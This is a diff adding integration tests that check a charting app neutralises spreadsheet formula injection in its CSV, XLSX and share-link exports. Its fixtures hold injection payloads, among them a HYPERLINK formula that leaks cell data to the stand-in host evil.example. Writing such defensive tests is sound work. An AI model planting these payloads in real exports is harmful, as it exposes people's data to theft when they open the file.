@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
 import { buildTestApp, type TestApp } from '../helpers/app.js';
 import type { Person } from '../helpers/fixtures.js';
 import { createTempDatabase } from '../helpers/postgres-server.js';
@@ -13,6 +13,7 @@ describe('chart and dataset exports over a real Postgres', () => {
   let projectId: number;
   let brewName: string;
   let datasetId: number;
+  let connectionId: number;
 
   beforeAll(async () => {
     db = await createTempDatabase(inject('postgresUrl'), `
@@ -24,6 +25,14 @@ break', '2025-01-01T11:00:00Z'),
         (3, 'DE', 'paid', 5, 'Köln ✓', '2025-01-02T10:00:00Z'),
         (4, 'DE', 'refunded', 7, null, '2025-01-03T10:00:00Z'),
         (5, 'US', 'paid', 100, '=1+1', '2025-01-03T12:00:00Z');
+      create table risky (id int primary key, note text, code text, amount float8);
+      insert into risky values
+        (1, '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '-5', -5),
+        (2, '+1+1', '+3.2', 3.2),
+        (3, '-2+3', '-1e3', -1000),
+        (4, '@SUM(1)', '12', 0.5),
+        (5, E'\t=1', 'text', 7),
+        (6, E'\r=1', '- 5', -0.25);
     `);
     t = await buildTestApp();
     owner = await t.signup('Owner');
@@ -37,6 +46,7 @@ break', '2025-01-01T11:00:00Z'),
       })
     ).json();
     const project = (await t.request({ method: 'POST', url: '/project', token: owner.token, payload: { name: 'Sales', team_id: owner.teamId, timezone: 'UTC' } })).json();
+    connectionId = conn.id;
     projectId = project.id;
     brewName = project.brewName;
     const ds = await t.request({
@@ -101,14 +111,16 @@ break', '2025-01-01T11:00:00Z'),
   });
 
   it('a table chart exports its rows; text with commas, quotes, newlines and formulas survives as text', async () => {
+    // In CSV, text that starts like a formula gets a leading ' (see the formula tests below).
+    const text = (value: unknown) => (value === null || value === undefined ? '' : String(value) === '=1+1' ? "'=1+1" : String(value));
     const table = await chart({ name: 'Orders table', type: 'table' }, { legend: 'Orders' });
     const { columns, data } = table.chartData.Orders;
     const accessors = columns.map((c: { accessor: string }) => c.accessor);
     const csv = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${table.id}/export?format=csv`, token: owner.token });
     const parsed = parse(csv.body, { bom: true }) as string[][];
     expect(parsed[0]).toEqual(accessors);
-    expect(parsed.slice(1)).toEqual(data.map((row: Record<string, unknown>) => accessors.map((a: string) => (row[a] === null || row[a] === undefined ? '' : String(row[a])))));
-    expect(parsed.map((r) => r[accessors.indexOf('note')])).toContain('line\nbreak');
+    expect(parsed.slice(1)).toEqual(data.map((row: Record<string, unknown>) => accessors.map((a: string) => text(row[a]))));
+    expect(parsed.map((r) => r[accessors.indexOf('note')])).toEqual(expect.arrayContaining(['line\nbreak', "'=1+1"]));
 
     const xlsx = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${table.id}/export?format=xlsx`, token: owner.token });
     const sheet = (await workbook(xlsx.rawPayload)).worksheets[0]!;
@@ -122,6 +134,87 @@ break', '2025-01-01T11:00:00Z'),
     expect(us).toBeGreaterThan(0);
     expect(sheet.getRow(us + 1).getCell(noteCol).value).toBe('=1+1');
     expect(sheet.getRow(us + 1).getCell(noteCol).type).toBe(ExcelJS.ValueType.String);
+  });
+
+  describe('text that a spreadsheet would run as a formula', () => {
+    // Column names that are formulas too: a header is a cell like any other.
+    const NOTE = '=HYPERLINK("http://evil.example","x")';
+    const CODE = '@SUM(1)';
+    const query = `select id, note as "${NOTE.replace(/"/g, '""')}", code as "${CODE}", amount from risky order by id`;
+    // What a spreadsheet program must see: text with a leading ', plain numbers as they are.
+    const header = ['id', `'${NOTE}`, `'${CODE}`, 'amount'];
+    const cells = [
+      ['1', `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, '-5', '-5'],
+      ['2', "'+1+1", '+3.2', '3.2'],
+      ['3', "'-2+3", '-1e3', '-1000'],
+      ['4', "'@SUM(1)", '12', '0.5'],
+      ['5', "'\t=1", 'text', '7'],
+      ['6', "'\r=1", "'- 5", '-0.25'],
+    ];
+    let risky: { datasetId: number; chartId: number; projectId: number; brewName: string };
+
+    beforeAll(async () => {
+      const project = (await t.request({ method: 'POST', url: '/project', token: owner.token, payload: { name: 'Risky', team_id: owner.teamId, timezone: 'UTC' } })).json();
+      const ds = await t.request({
+        method: 'POST',
+        url: `/team/${owner.teamId}/datasets/quick-create`,
+        token: owner.token,
+        payload: { name: 'Risky', project_ids: [project.id], dataRequests: [{ connection_id: connectionId, query }] },
+      });
+      expect(ds.statusCode, ds.body).toBe(200);
+      const created = await t.request({ method: 'POST', url: `/project/${project.id}/chart/quick-create`, token: owner.token, payload: { name: 'Risky rows', type: 'table', chartDatasetConfigs: [{ dataset_id: ds.json().id, legend: 'Risky' }] } });
+      expect(created.statusCode, created.body).toBe(200);
+      const run = await t.request({ method: 'POST', url: `/project/${project.id}/chart/${created.json().id}/query`, token: owner.token });
+      expect(run.statusCode, run.body).toBe(200);
+      risky = { datasetId: ds.json().id, chartId: created.json().id, projectId: project.id, brewName: project.brewName };
+    });
+
+    const csvRows = (body: string) => parse(body, { bom: true, relax_column_count: true }) as string[][];
+
+    it('are neutralised in CSV cells and headers of the dataset and chart exports; numbers stay numbers', async () => {
+      const dataset = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${risky.datasetId}/export?format=csv`, token: owner.token });
+      expect(dataset.statusCode, dataset.body).toBe(200);
+      expect(csvRows(dataset.body)).toEqual([header, ...cells]);
+
+      const chart = await t.request({ method: 'GET', url: `/project/${risky.projectId}/chart/${risky.chartId}/export?format=csv`, token: owner.token });
+      expect(chart.statusCode, chart.body).toBe(200);
+      const rows = csvRows(chart.body);
+      const order = header.map((name) => rows[0]!.indexOf(name));
+      expect(order).not.toContain(-1);
+      expect(rows.map((row) => order.map((i) => row[i]))).toEqual([header, ...cells]);
+    });
+
+    it('are neutralised in an anonymous share-link export', async () => {
+      const allow = (allowReportExport: boolean) => t.request({ method: 'PUT', url: `/team/${owner.teamId}`, token: owner.token, payload: { allowReportExport } });
+      expect((await allow(true)).statusCode).toBe(200);
+      onTestFinished(async () => void (await allow(false)));
+      const policy = (await t.request({ method: 'POST', url: `/project/${risky.projectId}/share/policy`, token: owner.token })).json();
+      const { token } = (await t.request({ method: 'POST', url: `/project/${risky.projectId}/share/token`, token: owner.token, payload: { sharePolicyId: policy.id } })).json();
+      const shared = await t.request({ method: 'GET', url: `/project/dashboard/${risky.brewName}/chart/${risky.chartId}/export?format=csv&token=${token}` });
+      expect(shared.statusCode, shared.body).toBe(200);
+      const rows = csvRows(shared.body);
+      const order = header.map((name) => rows[0]!.indexOf(name));
+      expect(order).not.toContain(-1);
+      expect(rows.map((row) => order.map((i) => row[i]))).toEqual([header, ...cells]);
+    });
+
+    it('stay plain strings in XLSX (never formulas), and numbers stay numbers', async () => {
+      const xlsx = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${risky.datasetId}/export?format=xlsx`, token: owner.token });
+      expect(xlsx.statusCode).toBe(200);
+      const sheet = (await workbook(xlsx.rawPayload)).worksheets[0]!;
+      expect(sheetRows(sheet)).toEqual([
+        ['id', NOTE, CODE, 'amount'],
+        [1, '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '-5', -5],
+        [2, '+1+1', '+3.2', 3.2],
+        [3, '-2+3', '-1e3', -1000],
+        [4, '@SUM(1)', '12', 0.5],
+        [5, '\t=1', 'text', 7],
+        // XML reads a CR in text as a line feed: still text, never a formula.
+        [6, '\n=1', '- 5', -0.25],
+      ]);
+      for (let r = 1; r <= 7; r += 1) for (const c of [2, 3]) expect(sheet.getRow(r).getCell(c).type).toBe(ExcelJS.ValueType.String);
+      expect(sheet.getRow(2).getCell(4).type).toBe(ExcelJS.ValueType.Number);
+    });
   });
 
   it('a KPI exports its Total row', async () => {
